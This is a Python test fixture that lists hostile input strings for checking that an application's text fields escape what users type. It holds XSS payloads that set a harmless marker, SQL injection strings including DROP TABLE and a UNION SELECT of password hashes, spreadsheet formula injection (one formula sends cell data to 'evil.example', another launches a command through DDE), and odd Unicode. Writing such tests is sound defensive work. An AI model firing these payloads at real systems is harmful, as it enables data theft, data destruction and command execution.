"""Hostile strings for input-path tests: markup, script URLs, SQL, odd and very long Unicode.

Import ``HOSTILE_STRINGS`` (a tuple of at least 50) and feed each through every input that a
user can type into (names, notes, descriptions, imported cells, file names); wherever it shows
it must appear as text and run nothing. Scripts in the corpus set ``window.__xss`` so a browser
test can check that none ran.
"""

from __future__ import annotations

MARKUP = (
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=/x.js></SCRIPT>",
    "</script><script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    '<a href="javascript:window.__xss=1">bấm</a>',
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus='",
    "<details open ontoggle=window.__xss=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<object data=javascript:window.__xss=1>",
    "<style>*{display:none}</style>",
    "<!--<script>window.__xss=1</script>-->",
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "`${window.__xss=1}`",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "<b>đậm</b> <i>nghiêng</i>",
)
SQL = (
    "'; DROP TABLE activity; --",
    '" OR 1=1 --',
    "1' OR '1'='1",
    "Robert'); DROP TABLE priority_list;--",
    "%' AND 1=0 UNION SELECT username, password_hash FROM user_account --",
    "\\'; SELECT pg_sleep(5); --",
)
#: spreadsheet formula injection (exports and imported cells)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)
UNICODE = (
    "Xã \u202eđảo ngược\u202c chữ",  # right-to-left override
    "Tên\u200bcó\u200ckhoảng\u200drộng\ufeff0",  # zero-width characters
    "Ha\u0300\u0301\u0302\u0303\u0309\u0323 Z\u0351\u0352\u0353a\u0354l\u0355g\u0356o",  # combining
    "Quảng Trị 🌾🚜👩‍🌾🇻🇳",
    "Nul\x00byte",
    "ctl\x01\x07\x1b[31mred\x1b[0m",
    "dòng\r\nmới\u2028đoạn\u2029mới",
    "\ufffd\ufffe",
    "𝕏𝕒 𝔻𝕠𝕟𝕘 — 𠀀𪜀",
    "Ｆｕｌｌｗｉｄｔｈ　ｓｐａｃｅ",
    "ẞ İ ı ŉ ǰ",  # case-mapping oddities
    "\u00a0\u00a0xã\u3000",
)
LONG = (
    "A" * 5000,
    "Đường giao thông nông thôn " * 300,
    "<" * 2000 + "script>window.__xss=1</script>",
)
HOSTILE_STRINGS: tuple[str, ...] = MARKUP + SQL + FORMULAS + UNICODE + LONG

assert len(HOSTILE_STRINGS) >= 50
